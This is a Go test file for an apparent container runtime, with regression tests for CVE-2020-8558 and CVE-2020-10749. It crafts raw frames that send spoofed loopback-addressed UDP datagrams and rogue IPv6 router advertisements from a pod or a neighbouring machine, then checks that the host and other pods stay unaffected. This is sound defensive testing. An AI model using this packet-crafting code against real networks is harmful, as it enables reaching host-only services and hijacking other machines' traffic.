package escape

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
	cri "k8s.io/cri-api/pkg/apis/runtime/v1"

	"monopod.dev/monopod/test/harness"
)

// startBothFamilies starts a runtime whose pods have addresses of both families.
func startBothFamilies(t *testing.T) *node {
	t.Helper()
	n := &node{T: t, names: new(int), engine: engines[0], host: harness.NewNode(t, harness.Options{Command: "runtime"})}
	pods := netip.MustParsePrefix(n.host.PodCIDR).Addr().As4()
	six := netip.PrefixFrom(netip.AddrFrom16([16]byte{0xfd, 0x6d, 0x70, 1, pods[1], pods[2]}), 64) // nobody else has it, as the IPv4 range it follows from
	n.begin([]string{"--pod-cidr", "", "--pod-cidrs", n.host.PodCIDR + "," + six.String()})
	return n
}

// addresses are a pod's by their families.
func (p *pod) addresses() (four, six netip.Addr) {
	p.Helper()
	resp, err := p.rt.PodSandboxStatus(p.ctx, &cri.PodSandboxStatusRequest{PodSandboxId: p.id})
	p.check(err)
	network := resp.GetStatus().GetNetwork()
	four = netip.MustParseAddr(network.GetIp())
	for _, more := range network.GetAdditionalIps() {
		six = netip.MustParseAddr(more.GetIp())
	}
	return four, six
}

// hardware is the address of a container's eth0.
func (c *container) hardware() net.HardwareAddr {
	c.Helper()
	mac, err := net.ParseMAC(c.exec("cat", "/sys/class/net/eth0/address"))
	c.check(err)
	return mac
}

// frames sends frames, in hexadecimal, from eth0 as they are.
func frames(all []string) error {
	eth0, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return err
	}
	for _, one := range all {
		raw, err := hex.DecodeString(one)
		if err != nil {
			return err
		}
		if err := unix.Sendto(fd, raw, 0, &unix.SockaddrLinklayer{Ifindex: eth0.Index}); err != nil {
			return err
		}
	}
	return nil
}

// frame is an Ethernet frame with an IP packet.
func frame(to, from net.HardwareAddr, packet []byte) string {
	kind := uint16(unix.ETH_P_IP)
	if packet[0]>>4 == 6 {
		kind = unix.ETH_P_IPV6
	}
	return hex.EncodeToString(append(binary.BigEndian.AppendUint16(append(append([]byte{}, to...), from...), kind), packet...))
}

// datagram is an IP packet with a UDP datagram from the port 4444.
func datagram(from, to netip.Addr, port int, text string) []byte {
	udp := binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(nil, 4444), uint16(port))
	udp = append(binary.BigEndian.AppendUint16(udp, uint16(8+len(text))), 0, 0)
	return packet(from, to, unix.IPPROTO_UDP, 64, append(udp, text...), 6)
}

// packet is an IP packet; sum is where the payload has a checksum over itself and the addresses.
func packet(from, to netip.Addr, protocol, hops byte, payload []byte, sum int) []byte {
	pseudo := append(append(from.AsSlice(), to.AsSlice()...), 0, 0, byte(len(payload)>>8), byte(len(payload)), 0, protocol)
	binary.BigEndian.PutUint16(payload[sum:], checksum(append(pseudo, payload...)))
	if from.Is6() {
		head := []byte{0x60, 0, 0, 0, byte(len(payload) >> 8), byte(len(payload)), protocol, hops}
		return append(append(append(head, from.AsSlice()...), to.AsSlice()...), payload...)
	}
	head := []byte{0x45, 0, byte((20 + len(payload)) >> 8), byte(20 + len(payload)), 0, 0, 0, 0, hops, protocol, 0, 0}
	head = append(append(head, from.AsSlice()...), to.AsSlice()...)
	binary.BigEndian.PutUint16(head[10:], checksum(head))
	return append(head, payload...)
}

// checksum is the Internet's (RFC 1071).
func checksum(b []byte) uint16 {
	var sum uint32
	for i, x := range b {
		sum += uint32(x) << (8 * (1 - i%2))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// TestCVE2020_8558: what listens on the loopback of the host alone, as what trusts everybody does, is reached from a pod, or from another machine of the link:
// by packets for 127.0.0.1, which a node lets in that leads its loopback's ports to pods (route_localnet), and by such as come from 127.0.0.1.
//
// The attacker, with CAP_NET_RAW, would have won if a datagram of his arrived at such a socket, or one with such a source at any.
func TestCVE2020_8558(t *testing.T) {
	n := startBothFamilies(t)
	n.as(t, engines[0], func(n *node) {
		p := n.pod(nil)
		n.pod(func(c *cri.PodSandboxConfig) { // with this there is a way to loopback, and from it
			c.PortMappings = []*cri.PortMapping{{Protocol: cri.Protocol_UDP, ContainerPort: 53, HostPort: 31535, HostIp: "127.0.0.1"}}
		})
		c := p.launch(able(shell(sleeper), "NET_RAW", "NET_ADMIN"))
		bridge, err := net.InterfaceByName(n.host.Bridge)
		n.check(err)
		beside := harness.NewNeighbour(n, n.host)
		uplink, err := net.InterfaceByName(beside.Link)
		n.check(err)
		pod4, pod6 := p.addresses()
		gate4, gate6 := gatewayOf(c, "-4"), gatewayOf(c, "-6")
		loop4, loop6 := netip.MustParseAddr("127.0.0.1"), netip.IPv6Loopback()
		closed := map[netip.Addr]*net.UDPConn{loop4: listen(n, loop4), netip.MustParseAddr("127.0.0.2"): listen(n, netip.MustParseAddr("127.0.0.2")), loop6: listen(n, loop6)}
		open := map[bool]*net.UDPConn{true: listen(n, netip.IPv4Unspecified()), false: listen(n, netip.IPv6Unspecified())}
		// attack sends evil packets to a place on the link, and then, to the open sockets, one that may arrive.
		attack := func(to, from net.HardwareAddr, own4, own6, its4, its6 netip.Addr, send func(frames []string)) {
			n.Helper()
			var all []string
			for at, l := range closed {
				own := own4
				if at.Is6() {
					own = own6
				}
				all = append(all, frame(to, from, datagram(own, at, portOf(l), "evil")), frame(to, from, datagram(at, at, portOf(l), "evil")))
			}
			for _, evil := range []netip.Addr{loop4, netip.MustParseAddr("127.1.2.3")} {
				all = append(all, frame(to, from, datagram(evil, its4, portOf(open[true]), "evil")))
			}
			all = append(all, frame(to, from, datagram(loop6, its6, portOf(open[false]), "evil")), frame(to, from, datagram(own4, its4, portOf(open[true]), "good")),
				frame(to, from, datagram(own6, its6, portOf(open[false]), "good")))
			send(all)
			for _, l := range open { // what was sent before them has arrived, too, if it does
				n.check(l.SetReadDeadline(time.Now().Add(60 * time.Second * harness.SlowFactor())))
				if text, source := receive(n, l); text != "good" {
					n.Errorf("%q has arrived at %v from %v", text, l.LocalAddr(), source)
				}
			}
			for at, l := range closed {
				n.check(l.SetReadDeadline(time.Now().Add(time.Millisecond)))
				if text, source := receive(n, l); text != "" {
					n.Errorf("%q has arrived at the host's %v from %v", text, at, source)
				}
			}
		}
		attack(bridge.HardwareAddr, c.hardware(), pod4, pod6, gate4, gate6, func(frames []string) { c.exec(append([]string{"/attack", "frames"}, frames...)...) })
		var mac net.HardwareAddr
		n.check(harness.InNetNS(beside.NetNS, func() error {
			eth0, err := net.InterfaceByName("eth0")
			if err == nil {
				mac = eth0.HardwareAddr
			}
			return err
		}))
		own, node := beside.Own, beside.Node
		attack(uplink.HardwareAddr, mac, own[harness.IPv4], own[harness.IPv6], node[harness.IPv4], node[harness.IPv6], func(all []string) {
			n.check(harness.InNetNS(beside.NetNS, func() error { return frames(all) }))
		})
	})
}

// gatewayOf is where a container's default route leads.
func gatewayOf(c *container, family string) netip.Addr {
	c.Helper()
	f := strings.Fields(c.exec("ip", family, "route", "show", "default"))
	if len(f) < 3 {
		c.Fatalf("there is no default route: %q", f)
	}
	return netip.MustParseAddr(f[2])
}

func listen(n *node, at netip.Addr) *net.UDPConn {
	n.Helper()
	network := "udp4"
	if at.Is6() {
		network = "udp6"
	}
	l, err := net.ListenUDP(network, net.UDPAddrFromAddrPort(netip.AddrPortFrom(at, 0)))
	n.check(err)
	n.Cleanup(func() { l.Close() })
	return l
}

func portOf(l *net.UDPConn) int { return l.LocalAddr().(*net.UDPAddr).Port }

// receive takes a datagram; "" when none has come in time.
func receive(n *node, l *net.UDPConn) (text string, from net.Addr) {
	n.Helper()
	buf := make([]byte, 100)
	size, from, err := l.ReadFrom(buf)
	if err != nil && !os.IsTimeout(err) {
		n.Fatal(err)
	}
	return string(buf[:size]), from
}

// TestCVE2020_10749: a pod says that it is everybody's router (RFC 4861, 4.2), to all and to each: with a route for everything, a network for addresses of
// one's own, name servers and an MTU. Who believes it sends the attacker what is for others, where an IPv4 network has IPv6 that nobody looks after.
//
// The attacker, with CAP_NET_RAW, would have won if another pod, or the host, had a route, an address or an MTU of his.
func TestCVE2020_10749(t *testing.T) {
	notShort(t)
	for name, start := range map[string]func(t *testing.T) *node{"IPv4": func(t *testing.T) *node { return startNode(t) }, "both families": startBothFamilies} {
		t.Run(name, func(t *testing.T) {
			n := start(t)
			n.as(t, engines[0], func(n *node) {
				attacker, victim := n.pod(nil).launch(able(shell(sleeper), "NET_RAW", "NET_ADMIN")), n.pod(nil).launch(shell(sleeper))
				own := attacker.hardware()
				bridge, err := net.InterfaceByName(n.host.Bridge)
				n.check(err)
				const show = "ip -6 addr show scope global; ip -6 route; cat /proc/sys/net/ipv6/conf/eth0/mtu 2>/dev/null; cat /proc/sys/net/ipv6/conf/eth0/hop_limit 2>/dev/null; true"
				look := func() string { return victim.exec("sh", "-c", show) + "\nthe host's: " + onHost(n) }
				before := look()
				router := netip.MustParseAddr("fe80::bad")
				all := netip.MustParseAddr("ff02::1")
				sources := []netip.Addr{router}
				if _, six := attacker.pod.addresses(); six.IsValid() {
					sources = append(sources, gatewayOf(victim, "-6")) // who says nothing himself
				}
				var frames []string
				for _, source := range sources {
					for _, to := range []net.HardwareAddr{{0x33, 0x33, 0, 0, 0, 1}, victim.hardware(), bridge.HardwareAddr, {0xff, 0xff, 0xff, 0xff, 0xff, 0xff}} {
						frames = append(frames, frame(to, own, advertisement(source, all, own)))
					}
				}
				for range 3 {
					attacker.exec(append([]string{"/attack", "frames"}, frames...)...)
				}
				if now := look(); now != before {
					n.Errorf("before the advertisements there was\n%s\nand there is\n%s", before, now)
				}
			})
		})
	}
}

// onHost is what the host's bridge and uplinks have of IPv6.
func onHost(n *node) string {
	n.Helper()
	raw, err := os.ReadFile("/proc/net/ipv6_route")
	if os.IsNotExist(err) {
		return "nothing" // a kernel without IPv6
	}
	n.check(err)
	var lines []string
	for line := range strings.Lines(string(raw)) {
		f := strings.Fields(line) // destination, its bits, source, its bits, next hop, metric, references, uses, flags, interface
		if f[9] == n.host.Bridge || strings.Trim(f[0], "0") == "" {
			lines = append(lines, strings.Join([]string{f[0], f[1], f[4], f[9]}, " "))
		}
	}
	return fmt.Sprint(lines)
}

// advertisement is a router advertisement.
func advertisement(from, to netip.Addr, hardware net.HardwareAddr) []byte {
	prefix := netip.MustParseAddr("2001:db8:bad::").As16()
	m := []byte{134, 0, 0, 0, 17, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0} // hop limit, 30 minutes
	m = append(m, 1, 1)                                                  // the router's hardware address
	m = append(m, hardware...)
	m = append(m, 3, 4, 64, 0xc0, 0, 0, 0x0e, 0x10, 0, 0, 0x0e, 0x10, 0, 0, 0, 0) // on the link, and for addresses of one's own
	m = append(m, prefix[:]...)
	m = append(m, 5, 1, 0, 0, 0, 0, 5, 0)             // MTU 1280
	m = append(m, 24, 2, 48, 8, 0, 0, 0x0e, 0x10)     // a route to 2001:db8::/48
	m = append(m, 0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0) //
	m = append(m, 25, 3, 0, 0, 0, 0, 0x0e, 0x10)      // a name server
	m = append(m, prefix[:]...)                       //
	return packet(from, to, unix.IPPROTO_ICMPV6, 255, m, 2)
}
